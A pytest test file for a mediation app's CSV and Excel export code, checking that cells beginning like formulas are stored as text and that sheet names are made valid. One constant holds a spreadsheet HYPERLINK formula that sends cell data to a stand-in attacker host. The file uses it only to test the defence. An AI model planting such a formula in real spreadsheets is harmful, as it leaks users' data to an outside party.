"""Exports: CSV for Excel and workbooks, where no cell can run as a formula."""

import io

import pytest
from flask_babel import lazy_gettext as _l
from openpyxl import load_workbook

from mediation.core.exports import Sheet, safe_cell, sheet_name, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_kept_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_dates_and_ordinary_text_are_left_alone():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("王芳") == "王芳" and safe_cell("2026-01-01") == "2026-01-01"


def test_a_lazy_label_is_guarded_as_its_text(app):
    with app.test_request_context(headers={"Accept-Language": "en"}):
        assert safe_cell(_l("Cases accepted")) == "Cases accepted"


def test_the_csv_has_a_byte_order_mark_and_defused_cells():
    content = to_csv([["name", "amount"], [HYPERLINK, -3]])
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(") and text.endswith(",-3\r\n")


def test_a_workbook_cell_starting_with_a_formula_is_text_not_a_formula():
    content = to_xlsx([Sheet("names", [[HYPERLINK, 7]], header=["name", "n"])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(2, 1).data_type == "s" and sheet.cell(2, 1).value == "'" + HYPERLINK
    assert sheet.cell(2, 2).value == 7 and sheet.cell(1, 1).font.bold


def test_a_sheet_name_excel_refuses_is_made_acceptable():
    assert sheet_name("按调解员/调解室: [2026]") == "按调解员_调解室_ _2026_"
    assert len(sheet_name("x" * 40)) == 31
